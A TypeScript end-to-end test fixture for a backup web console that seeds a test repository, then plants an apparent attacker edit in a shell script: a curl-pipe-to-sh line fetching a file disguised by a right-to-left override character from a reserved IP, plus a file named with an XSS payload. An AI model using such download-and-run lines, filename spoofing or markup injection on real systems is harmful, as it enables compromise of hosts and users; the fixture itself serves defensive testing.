import { mkdirSync, readFileSync } from 'node:fs'
import { dirname, join } from 'node:path'

import type { BrowserContextOptions, Page } from 'playwright-core'

import { join as register, openDesk } from '../api/passkey-desk.ts'
import { watchPages } from './case-page.ts'
import { estate, runConsole, type RunningConsole } from './running-console.ts'

/** Somebody at a browser of their own, with a passkey that signs. */
export interface Person {
  readonly name: string
  readonly page: Page
}

/** A server that works on a small real backup in which an attacker left a script, and people who decide. */
export interface Night extends AsyncDisposable {
  readonly site: RunningConsole
  person(name: string, roles: readonly string[]): Promise<Person>
  /** A page with the same session and another look. */
  look(person: Person, options: BrowserContextOptions): Promise<Page>
}

/** Everybody of a night by name, one after the other; what fails inside their pages is noted. */
export async function peopleOf<Name extends string>(
  night: Night,
  roles: Readonly<Record<Name, string>>,
  problems: string[],
): Promise<Readonly<Record<Name, Person>>> {
  const people: [string, Person][] = []
  for (const [name, role] of Object.entries<string>(roles))
    people.push([name, await night.person(name, [role])])
  watchPages(
    people.map(([, { page }]) => page),
    problems,
  )
  return Object.fromEntries(people) as Record<Name, Person>
}

const prose = 'Sehr geehrte Damen und Herren, anbei unser Angebot für das kommende Jahr.\n'

export async function startNight(): Promise<Night> {
  await using opened = new AsyncDisposableStack()
  const site = opened.use(await runConsole())
  const password = site.file('password', 'only for this test\n')
  const folder = dirname(password)
  for (const tenant of ['nordwind', 'alpenblick']) {
    mkdirSync(join(folder, 'srv/share', tenant), { recursive: true })
  }
  const repo = ['--repo', join(folder, 'repository'), '--password-file', password]
  const backup = (day: string): Promise<string> =>
    site.anlauf('repo', 'backup', ...repo, '--host', 'files1', '--time', `${day}T02:00:00Z`, '--as-root', folder, join(folder, 'srv/share')) // prettier-ignore
  await site.anlauf('repo', 'init', ...repo)
  for (const tenant of ['nordwind', 'alpenblick']) {
    for (const name of ['offer', 'letter', 'diary']) {
      site.file(`srv/share/${tenant}/${name}.txt`, `${name}\n${prose.repeat(30)}`)
    }
  }
  site.file(
    'srv/share/nordwind/start.sh',
    '#!/bin/sh\n# starts the shop\ncd /srv/shop\nexec node server.js\n',
  )
  await backup('2026-03-02')
  site.file(
    'srv/share/nordwind/start.sh',
    '#!/bin/sh\n# starts the shop\ncd /srv/shop\ncurl -s http://192.0.2.7/\u202efdp.exe | sh\nexec node server.js\n',
  )
  site.file('srv/share/nordwind/diary.txt', `diary\n${prose.repeat(30)}Ein ruhiger Tag.\n`)
  site.file('srv/share/nordwind/<img src=x onerror=alert(1)>.txt', 'a name that wants to be markup\n')
  await backup('2026-03-08')
  return await openNight(opened, site, '')
}

/** The server anew, with the workplace that these people work at; what was opened so far ends with the night. */
export async function openNight(
  opened: AsyncDisposableStack,
  site: RunningConsole,
  workplace: string,
): Promise<Night> {
  await site.stop('SIGINT')
  site.file(
    'home/anlauf.yaml',
    `apiVersion: workplace/v1\nestate: ${estate}\nfolder: ../work\nrepositories:\n  - { id: backups, location: ../repository, passwordFile: ../password }\n${workplace}`,
  )
  await site.start()
  const token = readFileSync(join(site.folder, 'home/api.token'), 'utf8').trim()
  const rest = opened.move()
  return {
    site,
    async person(name, roles) {
      const answer = await fetch(`${site.url}/api/invitations`, {
        method: 'POST',
        headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },
        body: JSON.stringify({ person: name, roles }),
      })
      const desk = await openDesk(site.browser)
      await register(desk, ((await answer.json()) as { url: string }).url)
      return { name, page: desk.page }
    },
    async look({ page }, options) {
      const context = await site.browser.newContext({ timezoneId: 'Europe/Berlin', ...options })
      await context.addCookies(await page.context().cookies())
      return context.newPage()
    },
    [Symbol.asyncDispose]: () => rest.disposeAsync(),
  }
}
